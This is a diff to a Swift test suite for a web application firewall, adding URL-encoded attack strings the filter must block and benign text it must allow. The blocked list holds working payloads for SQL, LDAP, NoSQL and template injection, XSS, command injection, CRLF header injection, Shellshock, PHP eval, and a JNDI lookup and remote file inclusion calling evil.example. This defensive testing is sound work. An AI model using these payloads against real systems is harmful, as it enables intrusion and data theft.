@@ -151,6 +151,20 @@ struct WAFDecodingTests {
             "/?ip=1%20%7C%20net%20user", "/?ip=1%26%26whoami", "/?c=1%7Ccmd%20/c%20calc",
             // LDAP filters.
             "/?user=*)(uid=*))(%7C(uid=*", "/?user=admin)(%7C(password=*)", "/?u=*)(objectClass=*", "/?u=x)(%26(objectclass=*)",
+            "/?u=admin*)((%7Cuserpassword=*)", "/?u=admin))(%7C(%7C",
+            // From the benchmark's attack corpus, once missed.
+            "/?q=%27%20or%20true--", "/?q=1%27%7C%7C%27asd%27%7C%7C%27", "/?q=admin%27%2F*", "/?q=%20HAVING%201%3D1",
+            "/?q=%20ORDER%20BY%2031337--",
+            "/?q=(0,alert)(1)", "/?q=alert%3F.(1)", "/?q=%5B1%5D.find(alert)", "/?q=x%3Dalert,x(1)",
+            "/?q=C:%5Cinetpub%5Cwwwroot%5Cglobal.asa",
+            "/?f=http://evil.example/shell.txt", "/?f=//evil.example/shell.txt", "/?f=/var/log/nginx/access.log",
+            "/?ip=;netstat%20-a;", "/?ip=%7C/bin/ls%20-al", "/?ip=%0Aid%0A", "/?ip=;/???/??t%20/???/p??s??",
+            "/?n=%7B%7B7*'7'%7D%7D", "/?n=%7B%7Bconfig.items()%7D%7D", "/?n=%24%7B%40phpinfo()%7D",
+            "/?q=%0d%0aAccess-Control-Allow-Origin:%20*", "/?q=%0aHeader-Test:BLATRUC", "/?q=%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection",
+            "/?to=a@example.com%0d%0aBcc:%20everyone@evil.example", "/?q=%0d%0aVRFY%20root", "/?q=%0d%0aAUTH%20LOGIN",
+            "/?q=%24%7Bj%24%7Bk8s:k5:-ND%7Di%24%7Bsd:k5:-:%7Dldap://evil.example/a%7D", "/?q=()%7B%20:;%20%7D;%20/bin/id",
+            "/?u=true,%20%24where:%20'1%20%3D%3D%201'", "/?u%5B%24ne%5D=1", "/?q=%27%20%7C%7C%20%27a%27%3D%3D%27a",
+            "/?c=phpinfo();", "/?c=eval(%24_GET%5B'code'%5D);", "/?c=exec('whoami',%20%24out);",
         ])
     func families(target: String) {
         #expect(Self.get(target).blocked, "\(target)")
@@ -176,6 +190,16 @@ struct WAFDecodingTests {
             "Wie geht's? Grüße aus München", "日本語のテキストです", "Привет, как дела?", "if (x > 1) { return y; }",
             "Directory listing: dir /s shows files", "My IMAP login works", "objectClass is an LDAP attribute",
             "SELECT the right plan for your team", "<p><strong>Bold</strong> text</p>",
+            // From the benchmark's legitimate corpus (scripts/bench/waf), once blocked.
+            "The museum is open from 10 a.m. to 6 p.m. (closed on Mondays); admission is free.", #"he said "yes" or "no""#,
+            "document.cookie explained for beginners", "We call alert() only in the demo; in production use a toast.",
+            "SELECT * FROM products LIMIT 10 OFFSET 20;", "Drop table reservations for Friday at 8?", ##"the "#1 bestseller" list"##,
+            "Note: `DROP TABLE IF EXISTS staging_orders;` is run before each import.",
+            #"for f in *.jpg; do convert "$f" -resize 50% "small/$f"; done"#, "Keep it up :)", "Dyson V15 Detect Absolute (2023)",
+            "```sql\nSELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;\n```",
+            "const m = /a(b)/.exec('xab');", "Run `ls -la` in your terminal.", "```python\nprint('hi')\n```",
+            "export default function App() {\n  return null;\n}", "ssh -i ~/.ssh/id_ed25519 deploy@server.example.com",
+            "../README.md", "On Windows, open cmd.exe and type `ipconfig /all`.",
         ])
     func legitimate(text: String) {
         let encoded = text.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
